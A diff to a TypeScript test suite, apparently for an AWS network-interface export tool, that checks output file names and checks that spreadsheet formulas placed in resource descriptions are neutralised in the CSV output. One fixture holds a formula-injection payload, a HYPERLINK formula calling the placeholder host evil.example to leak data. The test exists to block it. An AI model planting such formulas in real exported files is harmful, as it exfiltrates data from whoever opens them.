@@ -121,13 +121,13 @@ describe('the output path is proven before any AWS call', () => {
     );
     expect(run.code).toBe(0);
     const names = await readdir(dir);
-    expect(names).toHaveLength(10);
-    expect(names.every((name) => /^\d+_[a-z_]+\.(csv|json|html)$/.test(name))).toBe(true);
+    expect(names).toHaveLength(11);
+    expect(names.every((name) => /^\d+_[a-z_]+\.(csv|json|html|sh)$/.test(name))).toBe(true);
   });
 });
 
 describe('what others write stays inert in the files', () => {
-  it('neutralises a formula that lands in InterfaceType from a description', async () => {
+  it('keeps a formula in a description out of InterfaceType, and neutralised in Description', async () => {
     const fixture = sampleOrg();
     const region = fixture.accounts[0]?.regions['us-east-1'];
     const template = region?.networkInterfaces?.[0] as NetworkInterface;
@@ -156,9 +156,9 @@ describe('what others write stays inert in the files', () => {
         .get('eni_public_ips.csv')
         ?.split('\n')
         .find((line) => line.includes('eni-0f0000000000000ff'));
-      // InterfaceType (7th) and Description are both neutralised.
+      // InterfaceType is one of the tool's own names, never description text.
+      expect(row?.split(',')[6]).toBe('Unknown Resource Type');
       expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?leak"",""Open"") now",`);
-      expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?leak"",""Open"") now",3.65`);
       expect(row?.match(/,"?=/g)).toBeNull();
     } finally {
       await hostile.close();
